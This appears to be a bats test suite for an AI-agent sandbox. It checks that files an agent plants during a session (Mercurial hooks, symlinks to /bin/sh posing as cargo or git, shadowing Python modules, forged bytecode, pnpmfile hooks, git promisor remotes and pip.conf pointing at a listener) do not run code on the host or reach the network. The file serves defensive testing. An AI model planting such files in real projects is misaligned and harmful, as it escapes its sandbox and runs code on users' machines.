#!/usr/bin/env bats
# The host boundary judged by classes, not by lists of names (issue 46,
# threat model 55-59). Each test plants from inside a real session what an
# agent did in the attack of issue 46 (its routes 1-8; route 9, review
# mode, is in 510-review-attacks.bats), or a member of the same class that
# the issue does not name, then runs the real host tool the way a user or
# an editor would (hg, git, python3, pip, pnpm from the npm registry,
# cargo) and asserts that nothing of the agent's ran and nothing reached
# its listener. Then a normal day: what ordinary work leaves keeps working
# on the host. docs/workspace-protection.md says what each class covers.

load helpers

setup() {
    as_setup
    # The payloads' traces: outside the tree, so only the host can write them.
    MARK=$AS_RUN_DIR/ran
    LISTENER_PID=
}

teardown() {
    [ -z "$LISTENER_PID" ] || kill "$LISTENER_PID" 2>/dev/null || true
    as_teardown
}

# ran: the traces the payloads left ("" when none ran).
ran() {
    local m out=
    for m in "$MARK"*; do
        [ ! -e "$m" ] || out+=" ${m##*/}"
    done
    echo "$out"
}

# An HTTP listener on loopback (a port of its own) that answers 404 and
# logs each request line: the agent's server. Sets LISTENER_PORT and
# LISTENER_LOG.
start_http_listener() {
    LISTENER_LOG=$AS_RUN_DIR/requests.log
    : >"$LISTENER_LOG"
    python3 - "$LISTENER_LOG" "$AS_RUN_DIR/http.port" <<'PY' &
import http.server, sys
log, port_file = sys.argv[1], sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open(log, "a").write(self.requestline + "\n")
        self.send_error(404)
    do_POST = do_GET
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
open(port_file, "w").write(str(s.server_address[1]))
s.serve_forever()
PY
    LISTENER_PID=$!
    wait_for_file "$AS_RUN_DIR/http.port" 10
    LISTENER_PORT=$(<"$AS_RUN_DIR/http.port")
}

@test "threat 56: Mercurial's other config files: hgrc-not-shared at the top and deeper, a planted repository, a share's store; host hg status runs nothing (issue 46, route 1)" {
    command -v hg >/dev/null || skip "mercurial is not installed (scripts/setup-host.sh installs it)"
    hg init . && hg init old && hg init src
    hg --config extensions.share= share -q src share
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        hook=$(printf "[hooks]\npre-status = touch %s" "$1")
        (printf "%s.top\n" "$hook" >>.hg/hgrc-not-shared) 2>/dev/null && echo WROTE-TOP
        (printf "%s.top\n" "$hook" >>.hg/hgrc) 2>/dev/null && echo WROTE-TOP
        printf "%s.old\n" "$hook" >old/.hg/hgrc-not-shared
        printf "%s.share\n" "$hook" >>src/.hg/hgrc
        mkdir -p sub/.hg/store
        printf "dotencode\nfncache\ngeneraldelta\nrevlogv1\nsparserevlog\nstore\n" >sub/.hg/requires
        printf "%s.sub\n" "$hook" >sub/.hg/hgrc
        echo done' sh "$MARK"
    assert "$output" == "done" "hg config written at the top"
    # shellcheck disable=SC2154  # stderr: set by run_x (helpers.bash)
    assert "$stderr" contains "  old/.hg/hgrc-not-shared: a tool config the tool obeys when run in that directory"
    assert "$stderr" contains "  src/.hg/hgrc: "
    assert "$stderr" contains "  sub/.hg: the metadata of a Mercurial repository or checkout, made during the session"
    local d
    for d in . old src share sub; do
        (cd "$d" && hg status && hg root) >/dev/null 2>&1 || true
    done
    assert "$(ran)" == "" "what host hg ran"
}

# rustup is no Debian 12 package and needs a network to fetch a toolchain,
# so the host's rustup cannot run here. What it does with a toolchain file
# is exercised by its documented steps (rust-lang.github.io/rustup/overrides.html):
# the nearest rust-toolchain.toml up from the directory, its
# [toolchain] path, whose bin/cargo every `cargo` runs.
rustup_proxy_cargo() {
    python3 - "$@" <<'PY'
import os, subprocess, sys, tomllib
d = os.getcwd()
while True:
    for name in ("rust-toolchain", "rust-toolchain.toml"):
        f = os.path.join(d, name)
        if os.path.isfile(f):
            tc = tomllib.load(open(f, "rb")).get("toolchain", {})
            if "path" in tc:
                sys.exit(subprocess.call([os.path.join(tc["path"], "bin", "cargo")] + sys.argv[1:]))
            sys.exit(0)
    if d == "/":
        sys.exit(0)
    d = os.path.dirname(d)
PY
}

@test "threat 55, 59: rust-toolchain.toml naming a toolchain whose bin/cargo is a link to /bin/sh: cargo metadata through rustup's steps runs nothing (issue 46, route 2)" {
    command -v cargo >/dev/null || skip "cargo is not installed (scripts/setup-host.sh installs it)"
    timeout 120 cargo init -q --vcs none --name p . || die "cargo init on the host"
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        mkdir -p tc/bin && ln -s /bin/sh tc/bin/cargo && ln -s /bin/sh tc/bin/rustc
        printf "[toolchain]\npath = \"%s/tc\"\n" "$PWD" >rust-toolchain.toml
        printf "touch %s.cargo\n" "$1" >metadata
        mkdir -p crates/x && printf "[toolchain]\npath = \"%s/tc\"\n" "$PWD" >crates/x/rust-toolchain
        echo planted' sh "$MARK"
    assert "$output" == planted
    assert "$stderr" contains "  tc/bin/cargo: a symlink made or re-pointed during the session, to /bin/sh, outside the launch directory; now a file that names its target"
    assert "$stderr" contains "  rust-toolchain.toml: a project config of rustup"
    assert "$stderr" contains "  crates/x/rust-toolchain: a tool config the tool obeys"
    rustup_proxy_cargo metadata --format-version 1 >/dev/null 2>&1 || true
    (cd crates/x && rustup_proxy_cargo metadata) >/dev/null 2>&1 || true
    timeout 120 cargo metadata --offline --format-version 1 >/dev/null || die "host cargo metadata fails"
    assert "$(ran)" == "" "what cargo ran"
}

@test "threat 55, 57: a link in an existing environment's bin to /bin/sh, and an entry named like another host command: the activated environment's git status and ls run nothing (issue 46, route 3)" {
    command -v python3 >/dev/null || skip "no python3 on the host"
    python3 -m venv --without-pip .venv
    git init -q .
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        ln -s /bin/sh .venv/bin/git
        printf "touch %s.git\n" "$1" >status
        printf "#!/bin/sh\ntouch %s.ls\n" "$1" >.venv/bin/ls && chmod +x .venv/bin/ls
        echo planted' sh "$MARK"
    assert "$output" == planted
    assert "$stderr" contains "  .venv/bin/git: a symlink made or re-pointed during the session, to /bin/sh"
    assert "$stderr" contains "  .venv/bin/ls: an entry of a virtual environment's bin named like the host command ls ("
    bash -c '. .venv/bin/activate && git status && ls' >/dev/null 2>&1 || true
    assert "$(ran)" == "" "what the activated environment ran"
}

@test "threat 57: modules at the top named like the host python's (argparse.py, a json package) and .pdbrc: python3 -m venv, -m json.tool and -m pdb run nothing of the agent's (issue 46, route 4)" {
    command -v python3 >/dev/null || skip "no python3 on the host"
    echo '{}' >x.json
    echo 'print("app")' >app.py
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        printf "open(\"%s.argparse\", \"w\")\nraise SystemExit(0)\n" "$1" >argparse.py
        mkdir json && printf "open(\"%s.json\", \"w\")\n" "$1" >json/__init__.py
        printf "!open(\"%s.pdbrc\", \"w\")\n" "$1" >.pdbrc
        echo "x = 1" >mylib.py
        echo planted' sh "$MARK"
    assert "$output" == planted
    assert "$stderr" contains "  argparse.py: a Python module named argparse, like one of the host python's"
    assert "$stderr" contains "  json: a Python module named json, like one of the host python's"
    assert "$stderr" contains "  .pdbrc: a project config of pdb"
    assert "$stderr" !contains "mylib.py"
    timeout 60 python3 -m venv --without-pip "$AS_RUN_DIR/v" >/dev/null 2>&1 || true
    timeout 60 python3 -m json.tool x.json >/dev/null 2>&1 || true
    printf 'c\n' | timeout 60 python3 -m pdb app.py >/dev/null 2>&1 || true
    assert "$(ran)" == "" "what host python ran"
}

@test "threat 56: a nested repository made a partial clone with a promisor remote: host git status in it sends nothing (issue 46, route 5)" {
    start_http_listener
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        git init -q sub && cd sub && echo x >f && git add f &&
            git -c user.name=a -c user.email=a@b.test commit -qm x &&
            git config core.repositoryformatversion 1 &&
            git config extensions.partialclone origin &&
            git config remote.origin.url "http://127.0.0.1:$1/data" &&
            git config remote.origin.promisor true &&
            tree=$(git rev-parse "HEAD^{tree}") && rm -f ".git/objects/$(echo "$tree" | cut -c1-2)/$(echo "$tree" | cut -c3-)" &&
            echo planted' sh "$LISTENER_PORT"
    assert "$output" == planted
    assert "$stderr" contains "  sub/.git/config: a git config with "
    assert "$stderr" contains "a partial clone's key by which a command that only reads (git status, git log) fetches from the network"
    (cd sub && timeout 60 git status && timeout 60 git log -1) >/dev/null 2>&1 || true
    assert "$(cat "$LISTENER_LOG")" == "" "what reached the agent's server"
}

# pnpm from the npm registry, its digest pinned (tests/e2e/fixtures/pnpm.version):
# sets PNPM to the command that runs it (an array).
pnpm_from_npm() {
    command -v node >/dev/null || skip "no node on the host"
    local tgz
    tgz=$("$AS_TOP/sandbox-image/agent-fetch" "$AS_TOP/tests/e2e/fixtures/pnpm.version" "$AS_TOP/build/images/tools" |
        awk '$1 == "tool" { print $2 }') || die "pnpm from the npm registry (sandbox-image/agent-fetch)"
    mkdir -p "$AS_RUN_DIR/pnpm"
    tar -xzf "$tgz" -C "$AS_RUN_DIR/pnpm" || die "unpacking $tgz"
    PNPM=(node "$AS_RUN_DIR/pnpm/package/bin/pnpm.cjs")
}

@test "threat 59: pnpm-workspace.yaml made inside naming a pnpmfile: pnpm install --ignore-scripts --offline runs nothing (issue 46, route 6)" {
    pnpm_from_npm
    echo '{"name":"p","version":"1.0.0"}' >package.json
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        mkdir -p lib && printf "require(\"fs\").writeFileSync(\"%s.pnpm\", \"x\")\nmodule.exports = { hooks: {} }\n" "$1" >lib/hooks.cjs
        printf "pnpmfile: lib/hooks.cjs\n" >pnpm-workspace.yaml
        echo planted' sh "$MARK"
    assert "$output" == planted
    assert "$stderr" contains "  pnpm-workspace.yaml: a project config of pnpm"
    timeout 120 "${PNPM[@]}" install --ignore-scripts --offline </dev/null >/dev/null 2>&1 || true
    assert "$(ran)" == "" "what host pnpm ran"
}

@test "threat 59: the pnpmfile an existing pnpm-workspace.yaml names is frozen; one named deeper, rewritten, and a new one deeper are disabled: pnpm install runs nothing" {
    pnpm_from_npm
    mkdir -p tools web/lib
    echo '{"name":"p","version":"1.0.0"}' >package.json
    printf 'pnpmfile: tools/hooks.cjs\n' >pnpm-workspace.yaml
    echo 'module.exports = { hooks: {} }' >tools/hooks.cjs
    echo '{"name":"w","version":"1.0.0"}' >web/package.json
    printf 'pnpmfile: lib/hooks.cjs\n' >web/pnpm-workspace.yaml
    echo 'module.exports = { hooks: {} }' >web/lib/hooks.cjs
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        hook=$(printf "require(\"fs\").writeFileSync(\"%s.%%s\", \"x\")\nmodule.exports = { hooks: {} }\n" "$1")
        (printf "$hook" top >tools/hooks.cjs) 2>/dev/null || echo frozen
        printf "$hook" web >web/lib/hooks.cjs
        mkdir -p api/lib && echo "{\"name\":\"a\",\"version\":\"1.0.0\"}" >api/package.json
        printf "pnpmfile: lib/hooks.cjs\n" >api/pnpm-workspace.yaml && printf "$hook" api >api/lib/hooks.cjs
        echo planted' sh "$MARK"
    assert "$output" == $'frozen\nplanted'
    assert "$stderr" contains "  web/lib/hooks.cjs: a file that web/pnpm-workspace.yaml names for its tool to run or read"
    assert "$stderr" contains "  api/pnpm-workspace.yaml: a tool config the tool obeys when run in that directory"
    local d
    for d in . web api; do
        (cd "$d" && timeout 120 "${PNPM[@]}" install --ignore-scripts --offline) </dev/null >/dev/null 2>&1 || true
    done
    assert "$(ran)" == "" "what host pnpm ran"
}

@test "threat 59: a pip.conf in an existing environment: the environment's pip list --outdated asks nothing of the agent's index (issue 46, route 7)" {
    command -v python3 >/dev/null || skip "no python3 on the host"
    python3 -m venv .venv 2>/dev/null || skip "python3 -m venv makes no pip here (no ensurepip: python3-venv)"
    start_http_listener
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        printf "[global]\nindex-url = http://127.0.0.1:%s/simple\ntrusted-host = 127.0.0.1\n" "$1" >.venv/pip.conf
        echo planted' sh "$LISTENER_PORT"
    assert "$output" == planted
    assert "$stderr" contains "  .venv/pip.conf: a config file in a virtual environment that a tool run from it reads"
    timeout 120 .venv/bin/pip list --outdated --disable-pip-version-check --retries 0 --timeout 5 >/dev/null 2>&1 || true
    assert "$(cat "$LISTENER_LOG")" == "" "what reached the agent's index"
}

@test "threat 58: bytecode the agent wrote for an unchanged module, its mtime and size the source's, and a stray .pyc: host python3 app.py runs the source (issue 46, route 8)" {
    command -v python3 >/dev/null || skip "no python3 on the host"
    # long enough that the agent's version fits in its size
    { printf 'X = "from the source"\n#'; printf '%0300d\n' 0; } >mod.py
    printf 'import mod\nprint(mod.X)\n' >app.py
    local tag
    tag=$(python3 -c 'import sys; print(sys.implementation.cache_tag)')
    run_x 0 agent-sandbox --exec sh -c '
        tag=$(python3 -c "import sys; print(sys.implementation.cache_tag)")
        [ "$tag" = "$2" ] || { echo "the image'"'"'s python is $tag, the host'"'"'s $2"; exit 0; }
        mkdir -p /tmp/evil && printf "open(\"%s.pyc\", \"w\")\nX = 1 \n" "$1" >/tmp/evil/mod.py
        size=$(wc -c <mod.py) && while [ "$(wc -c </tmp/evil/mod.py)" -lt "$size" ]; do printf "#" >>/tmp/evil/mod.py; done
        touch -r mod.py /tmp/evil/mod.py && mkdir -p __pycache__
        python3 -c "import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2])" /tmp/evil/mod.py "__pycache__/mod.$tag.pyc"
        printf "open(\"%s.stray\", \"w\")\n" "$1" >/tmp/evil/stray.py
        python3 -c "import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2])" /tmp/evil/stray.py stray.pyc
        echo planted' sh "$MARK" "$tag"
    [ "$output" = planted ] || skip "$output: its bytecode is not the host's"
    [ ! -e "__pycache__/mod.$tag.pyc" ] && [ ! -e stray.pyc ] || die "the agent's bytecode is still there"
    run_x 0 python3 app.py
    assert "$output" == "from the source"
    timeout 60 python3 -c 'import stray' >/dev/null 2>&1 || true
    assert "$(ran)" == "" "what host python ran"
}

@test "threat 55, 56, 59: members of each class the issue does not name: a link to a root-owned tool, a planted darcs and Subversion checkout, .bazeliskrc and mise.ENV.toml, a nested tools/bazel" {
    run_x --warns "$WARN_DISABLED" 0 agent-sandbox --exec sh -c '
        mkdir -p scripts && ln -s /usr/bin/env scripts/lint
        mkdir -p vendor/x/_darcs/prefs && echo "ALL posthook touch /tmp/x" >vendor/x/_darcs/prefs/defaults
        mkdir -p vendor/y/.svn && : >vendor/y/.svn/wc.db
        echo "BAZELISK_BASE_URL=http://127.0.0.1:9" >.bazeliskrc
        printf "[hooks]\nenter = \"touch /tmp/x\"\n" >mise.ci.toml
        mkdir -p sub/tools && printf "#!/bin/sh\n" >sub/tools/bazel
        echo planted'
    assert "$output" == planted
    assert "$stderr" contains "  scripts/lint: a symlink made or re-pointed during the session, to /usr/bin/env, outside the launch directory"
    assert "$stderr" contains "  vendor/x/_darcs: the metadata of a darcs repository or checkout, made during the session"
    assert "$stderr" contains "  vendor/y/.svn: the metadata of a Subversion repository or checkout"
    assert "$stderr" contains "  .bazeliskrc: a project config of Bazelisk"
    assert "$stderr" contains "  mise.ci.toml: a project config of mise, with \`MISE_ENV\`"
    assert "$stderr" contains "  sub/tools/bazel: a tool config the tool obeys"
    [ -f scripts/lint ] && [ ! -L scripts/lint ] || die "the link out of the tree is still a link"
}

@test "a normal day: a venv made inside is used on the host; a git clone of a dependency inside the tree; a Rust project's ordinary rust-toolchain.toml" {
    command -v python3 >/dev/null || skip "no python3 on the host"
    git init -q --bare -b main dep.git
    (
        tmp=$(mktemp -d "$AS_RUN_DIR/dep-XXXXXX") && cd "$tmp" && git init -q -b main . && echo lib >lib.txt &&
            git add lib.txt && git -c user.name=u -c user.email=u@host.test commit -qm lib && git push -q "$AS_DIR/dep.git" main
    ) || die "the dependency's repository"
    printf '[toolchain]\nchannel = "1.65"\n' >rust-toolchain.toml
    run_x '0+w' agent-sandbox --exec sh -c '
        python3 -m venv --without-pip .venv && .venv/bin/python -c "import sys; assert sys.prefix != sys.base_prefix"
        git clone -q dep.git vendor/dep
        echo done'
    assert "$output" == "done"
    assert "$stderr" !contains ".venv/pyvenv.cfg"
    assert "$stderr" !contains ".venv/bin/python"
    assert "$stderr" !contains "vendor/dep"
    assert "$stderr" !contains "rust-toolchain.toml"
    run_x 0 .venv/bin/python -c 'import sys; print(sys.prefix != sys.base_prefix)'
    assert "$output" == True "the environment made inside, used on the host"
    run_x 0 git -C vendor/dep log -1 --format=%s
    assert "$output" == lib
    run_x 0 git -C vendor/dep status --short
    [ "$(cat rust-toolchain.toml)" = $'[toolchain]\nchannel = "1.65"' ] || die "rust-toolchain.toml changed"
    if command -v cargo >/dev/null; then
        timeout 120 cargo init -q --vcs none --name p . && timeout 120 cargo metadata --offline --format-version 1 >/dev/null ||
            die "host cargo with the project's rust-toolchain.toml"
    fi
}
